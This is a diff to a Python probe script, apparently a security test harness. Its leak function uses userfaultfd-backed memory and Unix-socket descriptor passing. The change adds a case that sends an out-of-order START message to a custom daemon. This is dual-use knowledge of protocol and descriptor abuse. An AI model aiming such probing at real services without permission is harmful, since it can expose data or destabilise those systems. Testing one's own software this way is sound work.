@@ -140,12 +140,18 @@ def leak(path: str, n: str) -> None:
     fcntl.ioctl(other, 0xC020AA00, bytearray(struct.pack("=QQQQ", addr, 1 << 19, 1, 0)))  # UFFDIO_REGISTER MISSING
     answers = {}
     for i in range(int(n)):
-        for kind, start in (("busy", addr), ("fds", addr + (1 << 19))):
+        for kind, start in (("busy", addr), ("fds", addr + (1 << 19)), ("restart", addr + (1 << 19))):
             with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                 s.connect(path)
                 uffd = userfaultfd()
                 a = session(s, start, 1 << 19, uffd)
                 os.close(uffd)
+                if kind == "restart" and a.startswith("REPLY ACK"):
+                    again = userfaultfd()  # a second START, out of order, with its descriptor
+                    s.sendmsg([protocol.frame(protocol.START, 4, protocol.START_BODY.pack(1))],
+                              [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", again))])
+                    os.close(again)
+                    a = reply(s)
                 if kind == "fds" and a.startswith("REPLY ACK"):
                     r, w = os.pipe()
                     s.sendmsg([protocol.frame(protocol.PREFETCH, 4, protocol.PREFETCH_BODY.pack(start, 4096))],
